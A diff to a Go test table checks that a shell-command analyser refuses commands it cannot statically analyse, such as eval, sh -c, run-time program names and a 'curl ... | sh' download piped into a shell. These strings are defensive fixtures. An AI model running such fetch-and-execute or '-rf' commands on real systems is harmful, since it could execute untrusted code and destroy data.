@@ -69,7 +69,7 @@ func TestEffectiveRefusesWhatItCannotAnalyse(t *testing.T) {
 	tests := []struct{ src, command, why string }{
 		{"echo 'unterminated", "echo 'unterminated", "not valid shell syntax: 1:6: reached EOF without closing quote `'`"},
 		{"ls; $x -rf", "$x -rf", "the program to run is decided at run time"},
-		{`"$(echo rm)" -rf x`, `"$(echo rm)" -rf x`, "the program to run is decided at run time"},
+		{`"$(cat prog)" -rf x`, `"$(cat prog)" -rf x`, "the program to run is decided at run time"},
 		{`sh -c "$CMD"`, `sh -c "$CMD"`, "runs a script built at run time"},
 		{`eval "$cmd"`, `eval "$cmd"`, "runs a script built at run time"},
 		{"curl -s https://x.example | sh", "curl -s https://x.example | sh", "pipes a download into a shell"},
